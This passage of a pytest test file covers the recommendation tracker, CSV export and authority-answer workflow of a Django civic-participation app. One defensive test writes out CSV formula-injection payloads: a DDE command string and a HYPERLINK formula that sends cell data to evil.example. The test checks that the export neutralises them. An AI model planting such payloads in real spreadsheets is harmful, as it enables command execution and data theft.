"""Recommendation pages: the tracker and its CSV, one recommendation, the council's and officers'
side."""

import csv
import datetime
import io
import zoneinfo

import pytest
from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from voices.core.models import Notification
from voices.councils.tests.factories import CouncilFactory, MembershipFactory, facilitator_of
from voices.directory.tests.factories import CountryFactory, OrganisationFactory, text
from voices.recommendations import services, views
from voices.recommendations.models import (
    Addressee,
    AuthorityResponse,
    Event,
    Evidence,
    Follower,
    Outcome,
    ProgressUpdate,
    Recommendation,
    State,
)
from voices.recommendations.selectors import EXPORT_COLUMNS
from voices.recommendations.tests.factories import (
    RecommendationFactory,
    days_ago,
    domain,
    officer_of,
    recommendation_sent,
    sent_at,
)

# Dates are shown in the viewer's zone: the test users keep the accounts' default one (so the
# expected date is not UTC's between 23:00 and midnight UTC).
VIEWER_ZONE = zoneinfo.ZoneInfo("Europe/Brussels")


def url(name: str, **kwargs) -> str:
    return reverse(f"recommendations:{name}", kwargs=kwargs)


def titles(response) -> list[str]:
    return [str(r.title) for r in response.context["page"].object_list]


def messages_of(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def assert_same_queries(client, page: str, grow, django_assert_num_queries):
    """Measure the queries of `page`, let `grow()` add rows, and require the same number."""
    client.get(page)  # warm per-process caches
    with CaptureQueriesContext(connection) as few:
        client.get(page)
    grow()
    with django_assert_num_queries(len(few.captured_queries)):
        response = client.get(page)
    assert response.status_code == 200
    return response


@pytest.fixture
def facilitator(council):
    return facilitator_of(council, username="fatima", display_name="Fatima")


@pytest.fixture
def sent(council, authority, coordinator):
    """A recommendation of the Graz council, sent to the city of Graz."""
    return recommendation_sent(
        actor=coordinator, council=council, addressees=[authority],
        title=text("Open the housing office on Saturdays"),
    )  # fmt: skip


@pytest.fixture
def track(sent):
    return sent.addressees.get()


# The tracker


@pytest.mark.django_db
def test_the_tracker_lists_sent_recommendations_newest_first_without_drafts(client, tracker):
    response = client.get(url("list"))

    assert response.status_code == 200
    assert titles(response) == ["Schools in Lyon", "Health in Graz", "Housing in Graz"]
    assert "Draft in Graz" not in response.text
    assert "Overdue" in response.text


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query, expected",
    [
        ({"country": "FR"}, ["Schools in Lyon"]),
        ({"country": "AT"}, ["Health in Graz", "Housing in Graz"]),
        ({"council": "graz"}, ["Health in Graz", "Housing in Graz"]),
        ({"authority": "city-of-graz"}, ["Housing in Graz"]),
        ({"authority": "land-styria"}, ["Health in Graz"]),
        ({"domain": "education"}, ["Schools in Lyon"]),
        ({"state": "acknowledged"}, ["Health in Graz"]),
        ({"state": "sent"}, ["Schools in Lyon", "Housing in Graz"]),
        ({"overdue": "on"}, ["Housing in Graz"]),
        ({"council": "graz", "domain": "housing"}, ["Housing in Graz"]),
        ({"council": "lyon", "state": "acknowledged"}, []),
    ],
)
def test_the_tracker_can_be_filtered_by_each_criterion(client, tracker, query, expected):
    response = client.get(url("list"), query)

    assert response.status_code == 200
    assert not response.context["form"].errors
    assert titles(response) == expected


@pytest.mark.django_db
def test_a_withdrawn_recommendation_is_not_overdue(client, tracker, coordinator):
    housing, _health, _schools = tracker
    services.recommendation_withdraw(actor=coordinator, recommendation=housing, reason="Done.")

    response = client.get(url("list"), {"overdue": "on"})

    assert titles(response) == []


@pytest.mark.django_db
def test_the_tracker_is_paginated_and_keeps_the_filters_in_the_page_links(
    client, council, authority, coordinator, monkeypatch
):
    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    for n in range(3):
        recommendation = recommendation_sent(
            actor=coordinator, council=council, addressees=[authority], title=text(f"R{n}")
        )
        sent_at(recommendation, days_ago(10 - n))

    first = client.get(url("list"), {"council": "graz"})
    second = client.get(url("list"), {"council": "graz", "page": "2"})
    beyond = client.get(url("list"), {"council": "graz", "page": "99"})

    assert titles(first) == ["R2", "R1"]
    assert "?council=graz&amp;page=2" in first.text
    assert titles(second) == ["R0"]
    assert "?council=graz&amp;page=1" in second.text
    assert titles(beyond) == ["R0"]


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["list", "export"])
def test_bad_filter_values_give_the_unfiltered_list_and_no_crash(client, tracker, name):
    query = {
        "country": "ZZ", "council": "nowhere", "authority": "nobody", "domain": "nothing",
        "state": "draft", "page": "x",
    }  # fmt: skip
    response = client.get(url(name), query)

    assert response.status_code == 200
    if name == "list":
        errors = response.context["form"].errors
        assert set(errors) == {"country", "council", "authority", "domain", "state"}
        assert "Select a valid choice" in response.text
        assert len(titles(response)) == 3
    else:
        assert len(csv_rows(response)) == 1 + 3


@pytest.mark.django_db
def test_an_out_of_range_page_number_is_the_last_page(client, tracker):
    response = client.get(url("list"), {"page": str(2**70)})

    assert response.status_code == 200
    assert len(titles(response)) == 3


# The CSV export


@pytest.mark.django_db
def test_the_export_has_a_header_and_one_row_per_authority_asked(client, council, coordinator):
    first, second = OrganisationFactory(slug="first-city"), OrganisationFactory(slug="second")
    recommendation = recommendation_sent(
        actor=coordinator, council=council, addressees=[first, second], title=text("Two asked"),
        domain=domain("health"),
    )  # fmt: skip
    RecommendationFactory(council=council, title=text("Still a draft"))

    response = client.get(url("export"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = csv_rows(response)
    assert header == EXPORT_COLUMNS
    records = [dict(zip(header, row, strict=True)) for row in rows]
    assert sorted(r["authority"] for r in records) == ["first-city", "second"]
    record = records[0]
    assert record["recommendation_id"] == str(recommendation.pk)
    assert record["title"] == "Two asked"
    assert record["council"] == "Graz council"
    assert record["country"] == "AT"
    assert record["policy_area"] == "health"
    assert record["state"] == "sent"
    assert (
        record["sent_on"]
        == timezone.localtime(recommendation.sent_at, VIEWER_ZONE).date().isoformat()
    )
    assert record["due_on"] == recommendation.due_on.isoformat()
    assert (record["answered_on"], record["days_to_answer"], record["overdue"]) == ("", "", "no")
    assert record["url"] == recommendation.get_absolute_url()


@pytest.mark.django_db
def test_the_export_gives_the_answer_and_how_long_it_took(client, sent, track, officer):
    sent_at(sent, days_ago(3))
    services.response_save_draft(
        actor=officer, addressee=track, outcome=Outcome.ACCEPTED, reasons="Yes.", language="en"
    )
    services.response_publish(actor=officer, addressee=track)

    _header, row = csv_rows(client.get(url("export")))

    record = dict(zip(EXPORT_COLUMNS, row, strict=True))
    assert (record["state"], record["answer"]) == ("answered", "accepted")
    assert record["answered_on"] == timezone.localdate(timezone=VIEWER_ZONE).isoformat()
    assert float(record["days_to_answer"]) == pytest.approx(3, abs=0.1)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query, expected",
    [
        ({"council": "lyon"}, ["city-of-lyon"]),
        ({"authority": "land-styria"}, ["land-styria"]),
        ({"overdue": "on"}, ["city-of-graz"]),
        ({}, ["city-of-graz", "city-of-lyon", "land-styria"]),
    ],
)
def test_the_export_honours_the_tracker_filters(client, tracker, query, expected):
    _header, *rows = csv_rows(client.get(url("export"), query))

    assert sorted(row[EXPORT_COLUMNS.index("authority")] for row in rows) == expected


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_export_neutralises_cells_that_a_spreadsheet_would_run_as_a_formula(
    client, coordinator, start
):
    council = CouncilFactory(name=text(f"{start}cmd|' /C calc'!A0"))
    formula = f'{start}HYPERLINK("https://evil.example/?x="&A1)'
    recommendation_sent(actor=coordinator, council=council, title=text(formula))

    _header, row = csv_rows(client.get(url("export")))

    record = dict(zip(EXPORT_COLUMNS, row, strict=True))
    for column in ("title", "council"):
        assert not record[column].startswith(("=", "+", "-", "@")), record[column]
    assert record["title"].endswith(formula)
    assert record["council"].endswith(f"{start}cmd|' /C calc'!A0")


# One recommendation


@pytest.mark.django_db
def test_the_detail_page_shows_the_timeline_the_published_answer_and_progress(
    client, sent, track, officer
):
    services.addressee_acknowledge(actor=officer, addressee=track)
    services.response_save_draft(
        actor=officer, addressee=track, outcome=Outcome.PARTLY_ACCEPTED,
        reasons="We will open on two Saturdays a month.", language="en",
    )  # fmt: skip
    services.response_publish(actor=officer, addressee=track)
    services.progress_report(
        actor=officer, addressee=track, percent=40, note="Two clerks were hired.", language="en",
        milestone="First Saturday opening", milestone_on=datetime.date(2031, 5, 3),
    )  # fmt: skip

    response = client.get(sent.get_absolute_url())

    assert response.status_code == 200
    page = response.text
    assert "Open the housing office on Saturdays" in page
    assert "Partly accepted" in page
    assert "We will open on two Saturdays a month." in page
    assert "Two clerks were hired." in page
    assert "First Saturday opening" in page
    assert 'value="40"' in page
    steps = [(e.kind, e.from_state, e.to_state) for e in response.context["timeline"]]
    assert steps == [
        ("state", "draft", "adopted"),
        ("state", "adopted", "sent"),
        ("state", "", "sent"),
        ("state", "sent", "acknowledged"),
        ("state", "acknowledged", "answered"),
        ("state", "answered", "implementing"),
    ]
    for label in ("Adopted", "Acknowledged", "Answered", "In implementation"):
        assert label in page
    assert "Answer for your authority" not in page  # only the authority's officers answer


@pytest.mark.django_db
def test_a_sent_recommendation_is_public(client, sent, participant):
    assert client.get(sent.get_absolute_url()).status_code == 200
    client.force_login(participant)
    response = client.get(sent.get_absolute_url())

    assert response.status_code == 200
    assert "Follow this recommendation" in response.text
    assert "Mark as adopted" not in response.text
    assert url("withdraw", recommendation_id=sent.pk) not in response.text


@pytest.mark.django_db
def test_a_draft_is_not_found_for_the_public_and_a_participant(client, council, participant):
    draft = RecommendationFactory(council=council)

    anonymous = client.get(draft.get_absolute_url())
    client.force_login(participant)
    signed_in = client.get(draft.get_absolute_url())

    assert anonymous.status_code == 404
    assert signed_in.status_code == 404


@pytest.mark.django_db
def test_a_member_of_the_council_sees_its_draft_but_cannot_change_it(client, council):
    draft = RecommendationFactory(council=council, title=text("Our draft"))
    client.force_login(MembershipFactory(council=council).user)

    response = client.get(draft.get_absolute_url())

    assert response.status_code == 200
    assert "Our draft" in response.text
    assert "Mark as adopted" not in response.text


@pytest.mark.django_db
def test_the_officer_of_an_addressed_authority_is_offered_to_answer(client, sent, officer):
    client.force_login(officer)

    response = client.get(sent.get_absolute_url())

    assert "Answer for your authority" in response.text


# The council's page and list


@pytest.mark.django_db
def test_the_council_page_links_to_its_recommendations(client, council):
    response = client.get(reverse("councils:detail", kwargs={"slug": council.slug}))

    assert response.status_code == 200
    assert f'href="{url("council", slug="graz")}"' in response.text


@pytest.mark.django_db
def test_the_council_list_shows_drafts_only_to_the_council_s_people(
    client, council, sent, facilitator
):
    RecommendationFactory(council=council, title=text("A draft"))
    RecommendationFactory(title=text("Another council's"))
    page = url("council", slug="graz")

    public = client.get(page)
    client.force_login(facilitator)
    own = client.get(page)

    assert titles(public) == ["Open the housing office on Saturdays"]
    assert "Write a recommendation" not in public.text
    assert titles(own) == ["A draft", "Open the housing office on Saturdays"]
    assert url("create", slug="graz") in own.text


@pytest.mark.django_db
def test_the_council_list_of_an_unknown_council_is_not_found(client, db):
    assert client.get(url("council", slug="nowhere")).status_code == 404


# Drafting, adopting, sending, withdrawing


def form_data(**overrides) -> dict:
    data = {
        "title_en": "Open the housing office on Saturdays",
        "title_de": "Das Wohnungsamt samstags öffnen",
        "text_en": "The council asks the city to open the office on Saturdays.",
        "reasons_en": "Many members work on weekdays.",
        "domain": str(domain("housing").pk),
        "due_on_override": "",
    }
    data.update(overrides)
    return data


@pytest.mark.django_db
def test_a_facilitator_drafts_a_recommendation_through_the_form(
    client, council, facilitator, authority
):
    client.force_login(facilitator)
    page = url("create", slug="graz")

    form = client.get(page)
    response = client.post(page, form_data(addressees=[str(authority.pk)]))

    assert form.status_code == 200
    for name in ("title_en", "title_de", "text_en", "reasons_en", "domain", "addressees"):
        assert f'name="{name}"' in form.text
    recommendation = Recommendation.objects.get()
    assert response.status_code == 302
    assert response["Location"] == recommendation.get_absolute_url()
    assert recommendation.council == council
    assert recommendation.state == State.DRAFT
    assert recommendation.created_by == facilitator
    assert recommendation.title.values == {
        "en": "Open the housing office on Saturdays",
        "de": "Das Wohnungsamt samstags öffnen",
    }
    assert str(recommendation.reasons) == "Many members work on weekdays."
    assert recommendation.domain.code == "housing"
    assert [a.organisation for a in recommendation.addressees.all()] == [authority]
    assert list(recommendation.events.values_list("to_state", flat=True)) == [State.DRAFT]
    assert "The recommendation was saved as a draft." in messages_of(response)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "overrides, field",
    [
        ({"title_en": "", "title_de": ""}, "title"),
        ({"text_en": "   "}, "text"),
        ({"domain": ""}, "domain"),
        ({"addressees": []}, "addressees"),
        ({"due_on_override": "not a date"}, "due_on_override"),
    ],
)
def test_an_invalid_draft_shows_the_error_and_stores_nothing(
    client, council, facilitator, authority, overrides, field
):
    client.force_login(facilitator)
    data = form_data(addressees=[str(authority.pk)])
    data.update(overrides)

    response = client.post(url("create", slug="graz"), data)

    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert not Recommendation.objects.exists()


@pytest.mark.django_db
def test_a_deadline_in_the_past_is_refused_and_nothing_is_stored(
    client, council, facilitator, authority
):
    client.force_login(facilitator)
    yesterday = (timezone.now() - datetime.timedelta(days=1)).date().isoformat()

    response = client.post(
        url("create", slug="graz"),
        form_data(addressees=[str(authority.pk)], due_on_override=yesterday),
    )

    assert response.status_code == 200
    assert response.context["form"].errors["due_on_override"] == [
        "The deadline for the answer must be after today."
    ]
    assert not Recommendation.objects.exists()


@pytest.mark.django_db
def test_an_authority_of_another_country_cannot_be_asked(client, council, facilitator):
    french = OrganisationFactory(country=CountryFactory(code="FR", language="fr"))
    client.force_login(facilitator)

    response = client.post(url("create", slug="graz"), form_data(addressees=[str(french.pk)]))

    assert response.status_code == 200
    assert "addressees" in response.context["form"].errors
    assert not Recommendation.objects.exists()


@pytest.mark.django_db
def test_a_facilitator_of_another_council_may_not_draft_for_this_one(client, council, authority):
    client.force_login(facilitator_of(CouncilFactory()))

    response = client.post(url("create", slug="graz"), form_data(addressees=[str(authority.pk)]))

    assert response.status_code == 403
    assert not Recommendation.objects.exists()


@pytest.mark.django_db
def test_a_facilitator_edits_the_draft(client, council, facilitator, authority):
    draft = RecommendationFactory(council=council, addressees=[authority])
    second = OrganisationFactory(slug="land-styria", kind="regional_authority")
    client.force_login(facilitator)
    page = url("edit", recommendation_id=draft.pk)

    form = client.get(page)
    response = client.post(
        page, form_data(title_en="Open on Saturdays and Sundays", addressees=[str(second.pk)])
    )

    assert form.status_code == 200
    assert str(draft.title) in form.text
    assert response.status_code == 302
    draft.refresh_from_db()
    assert str(draft.title) == "Open on Saturdays and Sundays"
    assert [a.organisation for a in draft.addressees.all()] == [second]


@pytest.mark.django_db
def test_an_invalid_edit_changes_nothing(client, council, facilitator, authority):
    draft = RecommendationFactory(council=council, addressees=[authority], title=text("Kept"))
    client.force_login(facilitator)

    response = client.post(
        url("edit", recommendation_id=draft.pk), form_data(title_en="", title_de="")
    )

    assert response.status_code == 200
    assert set(response.context["form"].errors) == {"title", "addressees"}
    draft.refresh_from_db()
    assert str(draft.title) == "Kept"
    assert [a.organisation for a in draft.addressees.all()] == [authority]


@pytest.mark.django_db
def test_a_sent_recommendation_cannot_be_edited(client, sent, facilitator, authority):
    client.force_login(facilitator)

    response = client.post(
        url("edit", recommendation_id=sent.pk),
        form_data(title_en="Changed afterwards", addressees=[str(authority.pk)]),
    )

    assert response.status_code == 200
    assert response.context["form"].non_field_errors() == [
        "A sent recommendation cannot be changed. Withdraw it and write a new one."
    ]
    sent.refresh_from_db()
    assert str(sent.title) == "Open the housing office on Saturdays"


@pytest.mark.django_db
def test_a_facilitator_adopts_and_sends_a_draft(client, council, facilitator, authority, officer):
    draft = RecommendationFactory(council=council, addressees=[authority])
    client.force_login(facilitator)

    adopted = client.post(url("adopt", recommendation_id=draft.pk))
    draft.refresh_from_db()
    state_after_adopting = draft.state
    sending = client.post(url("send", recommendation_id=draft.pk))

    assert adopted.status_code == 302
    assert state_after_adopting == State.ADOPTED
    assert sending.status_code == 302
    assert sending["Location"] == draft.get_absolute_url()
    draft.refresh_from_db()
    assert draft.state == State.SENT
    assert draft.adopted_at is not None and draft.sent_at is not None
    assert draft.due_on is not None
    assert draft.addressees.get().state == State.SENT
    assert Notification.objects.filter(recipient=officer, kind="recommendation_received").exists()
    assert client.get(draft.get_absolute_url()).status_code == 200


@pytest.mark.django_db
def test_sending_a_draft_that_was_not_adopted_is_refused_with_a_message(
    client, council, facilitator
):
    draft = RecommendationFactory(council=council)
    client.force_login(facilitator)

    response = client.post(url("send", recommendation_id=draft.pk))

    assert response.status_code == 302
    assert messages_of(response) == ["A recommendation that is “Draft” cannot become “Sent”."]
    draft.refresh_from_db()
    assert draft.state == State.DRAFT


@pytest.mark.django_db
def test_adopting_and_sending_answer_only_to_post(client, council, facilitator):
    draft = RecommendationFactory(council=council)
    client.force_login(facilitator)

    assert client.get(url("adopt", recommendation_id=draft.pk)).status_code == 405
    assert client.get(url("send", recommendation_id=draft.pk)).status_code == 405


@pytest.mark.django_db
def test_withdrawing_needs_a_reason(client, council, facilitator):
    draft = RecommendationFactory(council=council)
    client.force_login(facilitator)
    page = url("withdraw", recommendation_id=draft.pk)

    form = client.get(page)
    response = client.post(page, {"reason": ""})

    assert form.status_code == 200
    assert response.status_code == 200
    assert response.context["form"].errors == {"reason": ["This field is required."]}
    draft.refresh_from_db()
    assert draft.state == State.DRAFT
    assert not draft.events.filter(to_state=State.WITHDRAWN).exists()


@pytest.mark.django_db
def test_a_reason_of_spaces_only_is_no_reason(client, council, facilitator):
    draft = RecommendationFactory(council=council)
    client.force_login(facilitator)

    response = client.post(url("withdraw", recommendation_id=draft.pk), {"reason": "   "})

    assert response.status_code == 200
    assert response.context["form"].errors
    draft.refresh_from_db()
    assert draft.state == State.DRAFT


@pytest.mark.django_db
def test_a_facilitator_withdraws_a_sent_recommendation_with_a_reason(
    client, council, sent, facilitator
):
    client.force_login(facilitator)

    response = client.post(
        url("withdraw", recommendation_id=sent.pk), {"reason": "The city already decided."}
    )

    assert response.status_code == 302
    sent.refresh_from_db()
    assert sent.state == State.WITHDRAWN
    assert sent.withdrawn_reason == "The city already decided."
    public = client.get(sent.get_absolute_url())
    assert "The council withdrew this recommendation." in public.text
    assert "The city already decided." in public.text


@pytest.mark.django_db
def test_a_facilitator_adds_and_removes_evidence_on_a_draft(client, council, facilitator):
    draft = RecommendationFactory(council=council)
    client.force_login(facilitator)

    added = client.post(
        url("evidence_add", recommendation_id=draft.pk),
        {"label": "Consultation results", "url": "example.org/results"},
    )
    evidence = Evidence.objects.get()
    removed = client.post(url("evidence_remove", evidence_id=evidence.pk))

    assert added.status_code == 302
    assert (evidence.label, evidence.url) == ("Consultation results", "https://example.org/results")
    assert removed.status_code == 302
    assert not Evidence.objects.exists()


@pytest.mark.django_db
def test_invalid_evidence_is_not_stored(client, council, facilitator):
    draft = RecommendationFactory(council=council)
    client.force_login(facilitator)

    response = client.post(
        url("evidence_add", recommendation_id=draft.pk), {"label": "", "url": "not a link"}
    )

    assert response.status_code == 302
    assert len(messages_of(response)) == 2
    assert not Evidence.objects.exists()


@pytest.mark.django_db
def test_evidence_of_a_sent_recommendation_cannot_change(client, sent, facilitator):
    client.force_login(facilitator)

    response = client.post(
        url("evidence_add", recommendation_id=sent.pk),
        {"label": "Late", "url": "https://example.org/late"},
    )

    assert response.status_code == 302
    assert messages_of(response) == ["A sent recommendation cannot be changed."]
    assert not Evidence.objects.exists()


# Following


@pytest.mark.django_db
def test_a_participant_follows_and_unfollows_a_recommendation(client, sent, participant):
    client.force_login(participant)
    page = url("follow", recommendation_id=sent.pk)

    followed = client.post(page, {"follow": "1"})
    while_following = client.get(sent.get_absolute_url())
    following_then = Follower.objects.filter(recommendation=sent, user=participant).exists()
    unfollowed = client.post(page, {"follow": "0"})

    assert followed.status_code == 302
    assert following_then
    assert "Stop following" in while_following.text
    assert unfollowed.status_code == 302
    assert not Follower.objects.filter(recommendation=sent, user=participant).exists()


@pytest.mark.django_db
def test_following_needs_an_account_and_a_public_recommendation(client, council, participant):
    draft = RecommendationFactory(council=council)

    anonymous = client.post(url("follow", recommendation_id=draft.pk), {"follow": "1"})
    client.force_login(participant)
    signed_in = client.post(url("follow", recommendation_id=draft.pk), {"follow": "1"})

    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith(reverse("account_login"))
    assert signed_in.status_code == 404
    assert not Follower.objects.exists()


# The officers' inbox


@pytest.mark.django_db
def test_the_inbox_lists_only_the_own_authority_s_tracks_most_urgent_first(
    client, council, authority, officer, coordinator
):
    for title, days in (("Newest", 1), ("Oldest", 50), ("Middle", 20)):
        recommendation = recommendation_sent(
            actor=coordinator, council=council, addressees=[authority], title=text(title)
        )
        sent_at(recommendation, days_ago(days))
    recommendation_sent(actor=coordinator, council=council, title=text("Someone else's"))
    withdrawn = recommendation_sent(
        actor=coordinator, council=council, addressees=[authority], title=text("Withdrawn")
    )
    services.recommendation_withdraw(actor=coordinator, recommendation=withdrawn, reason="No.")
    client.force_login(officer)

    response = client.get(url("inbox"))
    everything = client.get(url("inbox"), {"show": "all"})

    assert response.status_code == 200
    assert [str(t.recommendation.title) for t in response.context["page"].object_list] == [
        "Oldest", "Middle", "Newest",
    ]  # fmt: skip
    assert "Someone else's" not in response.text
    assert [str(t.recommendation.title) for t in everything.context["page"].object_list] == [
        "Oldest", "Middle", "Newest", "Withdrawn",
    ]  # fmt: skip


@pytest.mark.django_db
def test_a_rejected_answer_no_longer_waits_in_the_inbox(client, sent, track, officer):
    services.response_save_draft(
        actor=officer, addressee=track, outcome=Outcome.REJECTED, reasons="No budget.",
        language="en",
    )  # fmt: skip
    services.response_publish(actor=officer, addressee=track)
    client.force_login(officer)

    pending = client.get(url("inbox"))
    everything = client.get(url("inbox"), {"show": "all"})
    respond = client.get(url("respond", addressee_id=track.pk))

    # Nothing is left to do: a rejected answer has no progress to report and cannot be closed.
    assert 'action="{}"'.format(url("progress", addressee_id=track.pk)) not in respond.text
    assert list(everything.context["page"].object_list) == [track]
    assert list(pending.context["page"].object_list) == []


@pytest.mark.django_db
def test_the_inbox_is_refused_to_a_participant(client, participant):
    client.force_login(participant)

    assert client.get(url("inbox")).status_code == 403


# The authority's answer


@pytest.mark.django_db
def test_an_officer_confirms_receipt(client, track, officer):
    client.force_login(officer)

    response = client.post(url("acknowledge", addressee_id=track.pk))

    assert response.status_code == 302
    assert response["Location"] == url("respond", addressee_id=track.pk)
    track.refresh_from_db()
    assert track.state == State.ACKNOWLEDGED


@pytest.mark.django_db
def test_an_officer_s_draft_answer_is_not_public(client, sent, track, officer):
    client.force_login(officer)
    page = url("respond", addressee_id=track.pk)

    form = client.get(page)
    response = client.post(
        page,
        {"outcome": "accepted", "reasons": "We agree and will open in May.", "language": "en",
         "save": "1"},
    )  # fmt: skip

    assert form.status_code == 200
    assert response.status_code == 302
    assert response["Location"] == page
    answer = AuthorityResponse.objects.get()
    assert not answer.is_published
    assert (answer.outcome, answer.drafted_by) == (Outcome.ACCEPTED, officer)
    track.refresh_from_db()
    assert track.state == State.SENT
    assert "We agree and will open in May." in client.get(page).text
    client.logout()
    public = client.get(sent.get_absolute_url())
    assert "We agree and will open in May." not in public.text
    assert "No answer yet." in public.text


@pytest.mark.django_db
def test_an_officer_publishes_the_answer(client, sent, track, officer):
    client.force_login(officer)

    response = client.post(
        url("respond", addressee_id=track.pk),
        {"outcome": "accepted", "reasons": "We agree and will open in May.", "language": "en",
         "publish": "1"},
    )  # fmt: skip

    assert response.status_code == 302
    assert response["Location"] == sent.get_absolute_url()
    assert AuthorityResponse.objects.get().is_published
    track.refresh_from_db()
    assert (track.state, track.outcome) == (State.ANSWERED, Outcome.ACCEPTED)
    client.logout()
    public = client.get(sent.get_absolute_url())
    assert "We agree and will open in May." in public.text
    assert "Accepted" in public.text


@pytest.mark.django_db
def test_an_answer_without_an_outcome_is_refused_and_nothing_is_stored(client, track, officer):
    client.force_login(officer)

    response = client.post(
        url("respond", addressee_id=track.pk), {"reasons": "", "language": "en", "publish": "1"}
    )

    assert response.status_code == 200
    assert set(response.context["form"].errors) == {"outcome", "reasons"}
    assert not AuthorityResponse.objects.exists()
    track.refresh_from_db()
    assert track.state == State.SENT


@pytest.fixture
def answered(track, officer):
    services.response_save_draft(
        actor=officer, addressee=track, outcome=Outcome.ACCEPTED, reasons="Yes.", language="en"
    )
    services.response_publish(actor=officer, addressee=track)
    track.refresh_from_db()
    return track


@pytest.mark.django_db
def test_an_officer_reports_progress_and_closes_the_track(client, sent, answered, officer):
    client.force_login(officer)

    progress = client.post(
        url("progress", addressee_id=answered.pk),
        {"progress-percent": "60", "progress-note": "The office opened on two Saturdays.",
         "progress-language": "en",
         "progress-milestone": "Every Saturday", "progress-milestone_on": "2031-09-01"},
    )  # fmt: skip
    answered.refresh_from_db()
    state_after_progress = (answered.state, answered.progress)
    closed = client.post(
        url("close", addressee_id=answered.pk),
        {"close-implemented": "yes", "close-note": "Open now."},
    )

    assert progress.status_code == 302
    assert progress["Location"] == url("respond", addressee_id=answered.pk)
    assert state_after_progress == (State.IN_IMPLEMENTATION, 60)
    update = ProgressUpdate.objects.get()
    assert (update.percent, update.milestone) == (60, "Every Saturday")
    assert closed.status_code == 302
    assert closed["Location"] == sent.get_absolute_url()
    answered.refresh_from_db()
    assert (answered.state, answered.progress) == (State.IMPLEMENTED, 100)
    sent.refresh_from_db()
    assert sent.state == State.IMPLEMENTED
    client.logout()
    public = client.get(sent.get_absolute_url())
    assert "The office opened on two Saturdays." in public.text
    assert "Open now." in public.text
    assert "Implemented" in public.text


@pytest.mark.django_db
@pytest.mark.parametrize(
    "data",
    [
        {"progress-percent": "150", "progress-note": "Too far.", "progress-language": "en"},
        {"progress-percent": "-1", "progress-note": "Too little.", "progress-language": "en"},
        {"progress-percent": "50", "progress-note": "", "progress-language": "en"},
        {"progress-percent": "50", "progress-note": "Fine.", "progress-language": "xx"},
    ],
)
def test_an_invalid_progress_update_is_refused_and_nothing_is_stored(
    client, answered, officer, data
):
    client.force_login(officer)

    response = client.post(url("progress", addressee_id=answered.pk), data)

    assert response.status_code == 400
    assert response.context["progress_form"].errors
    assert not ProgressUpdate.objects.exists()
    answered.refresh_from_db()
    assert (answered.state, answered.progress) == (State.ANSWERED, 0)


@pytest.mark.django_db
def test_progress_before_an_answer_is_refused(client, track, officer):
    client.force_login(officer)

    response = client.post(
        url("progress", addressee_id=track.pk),
        {"progress-percent": "10", "progress-note": "Hm.", "progress-language": "en"},
    )

    assert response.status_code == 400
    assert (
        "Progress is reported after an answer that accepts the recommendation."
        in response.context["progress_form"].non_field_errors()
    )
    assert not ProgressUpdate.objects.exists()


@pytest.mark.django_db
def test_closing_as_not_implemented_needs_a_reason(client, answered, officer):
    client.force_login(officer)

    response = client.post(url("close", addressee_id=answered.pk), {"close-implemented": "no"})

    assert response.status_code == 400
    assert response.context["close_form"].errors == {"note": ["Say why it was not implemented."]}
    answered.refresh_from_db()
    assert answered.state == State.ANSWERED


@pytest.mark.django_db
def test_closing_without_a_result_is_refused(client, answered, officer):
    client.force_login(officer)

    response = client.post(url("close", addressee_id=answered.pk), {"close-note": "?"})

    assert response.status_code == 400
    assert "implemented" in response.context["close_form"].errors
    answered.refresh_from_db()
    assert answered.state == State.ANSWERED


@pytest.mark.django_db
def test_an_officer_of_another_authority_cannot_see_or_answer_the_track(client, track):
    client.force_login(officer_of(OrganisationFactory()))

    page = client.get(url("respond", addressee_id=track.pk))
    posted = client.post(
        url("respond", addressee_id=track.pk),
        {"outcome": "rejected", "reasons": "No.", "language": "en", "publish": "1"},
    )

    assert (page.status_code, posted.status_code) == (404, 404)
    assert not AuthorityResponse.objects.exists()


# The same number of queries for any amount of data


@pytest.mark.django_db
def test_the_tracker_needs_the_same_queries_for_3_or_15_recommendations(
    client, council, coordinator, django_assert_num_queries
):
    authorities = [OrganisationFactory() for _n in range(2)]

    def make(count: int) -> None:
        for _n in range(count):
            recommendation_sent(actor=coordinator, council=council, addressees=authorities)

    make(3)
    response = assert_same_queries(client, url("list"), lambda: make(12), django_assert_num_queries)

    assert len(titles(response)) == 15


@pytest.mark.django_db
def test_the_export_needs_the_same_queries_for_3_or_15_recommendations(
    client, council, coordinator, django_assert_num_queries
):
    authorities = [OrganisationFactory() for _n in range(2)]

    def make(count: int) -> None:
        for _n in range(count):
            recommendation_sent(actor=coordinator, council=council, addressees=authorities)

    make(3)
    response = assert_same_queries(
        client, url("export"), lambda: make(12), django_assert_num_queries
    )

    assert len(csv_rows(response)) == 1 + 30


@pytest.mark.django_db
@pytest.mark.parametrize("who", [None, "officer", "facilitator"])
def test_the_detail_page_needs_the_same_queries_for_1_or_5_progress_updates(
    client, request, sent, answered, officer, who, django_assert_num_queries
):
    if who:
        client.force_login(request.getfixturevalue(who))

    def report(count: int) -> None:
        for n in range(count):
            services.progress_report(
                actor=officer, addressee=answered, percent=10 * (n + 1), note=f"Step {n}.",
                language="en",
            )  # fmt: skip

    report(1)
    response = assert_same_queries(
        client, sent.get_absolute_url(), lambda: report(4), django_assert_num_queries
    )

    assert response.text.count("Step ") == 5
    assert Event.objects.filter(recommendation=sent).count() == 3 + 1 + 5


@pytest.mark.django_db
@pytest.mark.parametrize("who", [None, "officer"])
def test_the_detail_page_needs_the_same_queries_for_1_or_5_authorities(
    client, request, council, authority, coordinator, who, django_assert_num_queries
):
    if who:
        client.force_login(request.getfixturevalue(who))
    recommendation = recommendation_sent(actor=coordinator, council=council, addressees=[authority])

    def ask(count: int) -> None:
        for _n in range(count):
            track = Addressee.objects.create(  # as if it had been sent to it too
                recommendation=recommendation, organisation=OrganisationFactory(), state="sent"
            )
